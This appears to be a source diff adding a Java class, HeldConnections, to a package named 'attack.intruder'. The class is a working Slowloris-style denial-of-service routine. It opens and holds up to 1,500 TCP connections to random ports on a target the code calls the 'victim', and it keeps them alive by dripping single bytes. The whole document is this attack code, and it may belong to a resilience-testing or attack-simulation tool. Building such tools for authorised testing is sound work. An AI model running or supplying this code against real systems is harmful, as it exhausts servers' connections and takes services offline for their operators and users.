@@ -1,0 +1,70 @@
+package org.gradwire.attack.intruder;
+
+import java.io.IOException;
+import java.net.InetSocketAddress;
+import java.net.Socket;
+import java.util.ArrayDeque;
+import java.util.Deque;
+import java.util.random.RandomGenerator;
+
+/** Holds many connections to the victim's ports, silent or with a byte now and then. */
+final class HeldConnections implements Attacker {
+    private static final int TIME_TO_CONNECT_MILLIS = 2_000;
+    private static final int MOST_HELD = 1_500;
+
+    @Override
+    public void attack(Target target, RandomGenerator random, Tally tally) {
+        Deque<Socket> held = new ArrayDeque<>();
+        while (!tally.isOver()) {
+            int port = target.tcpPorts().get(random.nextInt(target.tcpPorts().size()));
+            tally.sent();
+            try {
+                held.add(open(new InetSocketAddress(target.host(), port), random));
+                tally.connected();
+            } catch (IOException _) {
+                tally.refused();
+            }
+            if (held.size() > MOST_HELD) {
+                close(held.poll());
+            } else if (!held.isEmpty() && random.nextInt(4) == 0) {
+                drip(held, random, tally);
+            }
+        }
+        held.forEach(HeldConnections::close);
+    }
+
+    private static Socket open(InetSocketAddress address, RandomGenerator random)
+            throws IOException {
+        var socket = new Socket();
+        try {
+            socket.connect(address, TIME_TO_CONNECT_MILLIS);
+            if (random.nextBoolean()) {
+                socket.getOutputStream().write('G'); // every greeting here begins so
+            }
+            return socket;
+        } catch (IOException e) {
+            close(socket);
+            throw e;
+        }
+    }
+
+    /** One of those that are held says one byte more. */
+    private static void drip(Deque<Socket> held, RandomGenerator random, Tally tally) {
+        Socket socket = held.poll();
+        try {
+            socket.getOutputStream().write(random.nextInt());
+            held.add(socket);
+        } catch (IOException _) {
+            tally.refused();
+            close(socket);
+        }
+    }
+
+    private static void close(Socket socket) {
+        try {
+            socket.close();
+        } catch (IOException _) {
+            // it was closed by the victim
+        }
+    }
+}
